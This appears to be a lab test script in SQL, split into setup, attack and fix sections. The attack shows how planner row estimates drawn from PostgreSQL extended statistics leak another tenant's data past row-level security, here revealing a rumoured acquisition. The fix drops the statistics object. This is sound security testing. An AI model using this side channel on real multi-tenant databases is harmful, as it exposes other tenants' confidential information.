-- the same by extended statistics: combinations of values that are common

--- setup
ALTER TABLE app.project ADD kind text; CREATE STATISTICS app.project_kinds (mcv) ON name, kind FROM app.project;
INSERT INTO app.project(tenant_id,name,kind) SELECT 2,'acquisition-of-globex','merger' FROM generate_series(1,2000); INSERT INTO app.project(tenant_id,name,kind) SELECT 2,'acquisition-of-globex','rumour' FROM generate_series(1,2000); INSERT INTO app.project(tenant_id,name,kind) SELECT 1,'own'||g,'k'||g%50 FROM generate_series(1,4000) g; ANALYZE app.project;
ALTER TABLE app.project ALTER name SET STATISTICS 0; UPDATE pg_statistic SET stakind1=0, stanumbers1=NULL, stavalues1=NULL WHERE starelid='app.project'::regclass AND stakind1=1;
CREATE FUNCTION lab.est(q text) RETURNS numeric LANGUAGE plpgsql AS $$ DECLARE j json; BEGIN EXECUTE 'EXPLAIN (FORMAT JSON) '||q INTO j; RETURN (j->0->'Plan'->>'Plan Rows')::numeric; END $$;

--- attack
--- as rls_app
SET app.tenant_id='1';
SELECT lab.v(lab.est($q$select 1 from app.project where name='acquisition-of-globex' and kind='merger'$q$) > 20*lab.est($q$select 1 from app.project where name='no-such-name' and kind='merger'$q$),'a combination that exists only in tenant 2');

--- fix
DROP STATISTICS app.project_kinds;
